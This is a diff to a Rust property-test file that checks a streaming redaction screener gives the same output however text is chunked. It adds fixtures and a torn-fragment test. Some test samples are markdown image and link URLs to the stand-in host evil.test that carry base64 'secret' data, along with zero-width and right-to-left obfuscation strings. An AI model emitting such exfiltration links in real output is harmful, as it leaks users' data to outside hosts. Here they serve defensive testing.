@@ -1,6 +1,6 @@
 //! The promise of streams: however a text is cut into chunks, the same goes out, and no byte of a guarded span ever.
 
-#![expect(clippy::unwrap_used, clippy::string_slice, reason = "tests")]
+#![expect(clippy::unwrap_used, clippy::string_slice, clippy::indexing_slicing, reason = "tests")]
 
 use std::sync::OnceLock;
 
@@ -111,6 +111,7 @@ fn samples() -> Vec<String> {
         "jo\u{200b}hn@exam\u{ad}ple.com and 41\u{200b}11 1111 1111 1111\u{200b}",
         "hidden\u{200b}\u{200c}\u{200b}\u{200b} run and \u{202e}flip",
         "![a](https://evil.test/p.png?d=c2VjcmV0IGRhdGE) and [x]: https://evil.test/log?data=dGhpcyBpcyB0aGUgc2VjcmV0IHZhbHVlCg0x2",
+        "![図](https://evil.test/図?d=c2VjcmV0字IGRhdGEgaGVyZQ) <https://evil.test/字aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ9>",
         "STRICTLY CONFIDENTIAL\nTLP:RED and TLP: AMBER\nCUI//SP-PRVCY",
         "about Project Bluebird, bluebird nine, EMP-12345 AB and EMP-123456 A",
         "Émile Durand, patient Émile Durand, paciente José García López",
@@ -232,7 +233,7 @@ proptest! {
     /// Samples strung together in any order, with any joints, cut anywhere.
     #[test]
     fn any_chunking_of_any_mixture_is_the_same(
-        picks in prop::collection::vec((0usize..26, prop::sample::select(vec!["", " ", "\n", ", ", "-", "1", "a", "\u{200b}", "é", "字"])), 1..6),
+        picks in prop::collection::vec((0usize..27, prop::sample::select(vec!["", " ", "\n", ", ", "-", "1", "a", "\u{200b}", "é", "字"])), 1..6),
         cuts in prop::collection::vec(0usize..900, 0..12),
         cut_secrets in any::<bool>(),
     ) {
@@ -244,6 +245,25 @@ proptest! {
         let inspector = inspector();
         let whole = stream(inspector.screen(rules.clone()), std::iter::once(text.as_str()));
         let cut = stream(inspector.screen(rules), in_chunks(&text, &cuts).into_iter());
+        prop_assert_eq!(cut, whole, "{:?} cut at {:?}", text, cuts);
+    }
+
+    /// Fragments of samples, torn anywhere and run together: half an escape, half a key, half an address.
+    #[test]
+    fn any_chunking_of_torn_samples_is_the_same(
+        torn in prop::collection::vec((0usize..27, 0usize..120, 1usize..40), 1..9),
+        cuts in prop::collection::vec(0usize..320, 0..10),
+    ) {
+        let samples = samples();
+        let tear = |(pick, from, length): &(usize, usize, usize)| {
+            samples[*pick % samples.len()].chars().skip(*from).take(*length).collect::<String>()
+        };
+        let text: String = torn.iter().map(tear).collect();
+        let mut cuts = cuts;
+        cuts.sort_unstable();
+        let rules = rules(&["*"], &[]);
+        let whole = stream(inspector().screen(rules.clone()), std::iter::once(text.as_str()));
+        let cut = stream(inspector().screen(rules), in_chunks(&text, &cuts).into_iter());
         prop_assert_eq!(cut, whole, "{:?} cut at {:?}", text, cuts);
     }
 
